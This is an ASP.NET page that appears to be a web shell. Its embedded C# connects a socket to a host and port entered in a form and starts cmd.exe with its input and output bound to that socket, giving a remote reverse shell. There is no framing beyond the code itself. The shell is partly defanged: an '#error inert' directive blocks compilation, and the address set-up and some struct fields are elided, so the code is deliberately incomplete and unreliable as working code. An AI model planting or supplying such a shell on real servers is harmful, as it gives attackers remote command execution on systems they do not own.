<%@ Page Language="C#" %>
<%@ Import Namespace="System.Runtime.InteropServices" %>
<%@ Import Namespace="System.Net" %>
<script runat="server">
#error inert
[StructLayout(LayoutKind.Sequential)]
public struct STARTUPINFO { public int cb; /* fields elided */ public int dwFlags; public IntPtr hStdInput; public IntPtr hStdOutput; public IntPtr hStdError; }
[DllImport("kernel32.dll")]
static extern bool CreateProcess(string a, string c, IntPtr pa, IntPtr ta, bool inh, uint f, IntPtr env, string cd, ref STARTUPINFO si, out IntPtr pi);
[DllImport("WS2_32.dll")]
public static extern IntPtr WSASocket(int af, int type, int proto, IntPtr info, uint g, int flags);
[DllImport("WS2_32.dll")]
public static extern int connect(IntPtr s, ref IntPtr addr, int len);
protected void CallbackShell(string server, int port)
{
    IntPtr socket = WSASocket(2, 1, 6, IntPtr.Zero, 0, 0);
    IntPtr addr = IntPtr.Zero; /* address set-up elided */
    connect(socket, ref addr, 16);
    SpawnProcessAsPriv("cmd.exe", socket);
}
protected void SpawnProcessAsPriv(string app, IntPtr h)
{
    STARTUPINFO si = new STARTUPINFO();
    si.dwFlags = 0x100; si.hStdInput = h; si.hStdOutput = h; si.hStdError = h;
    IntPtr pi;
    CreateProcess(null, app, IntPtr.Zero, IntPtr.Zero, true, 0, IntPtr.Zero, null, ref si, out pi);
}
protected void btn_Click(object s, EventArgs e) { CallbackShell(txtHost.Text, int.Parse(txtPort.Text)); }
</script>
<form runat="server"><asp:TextBox id="txtHost" runat="server"/><asp:TextBox id="txtPort" runat="server"/><asp:Button runat="server" OnClick="btn_Click"/></form>
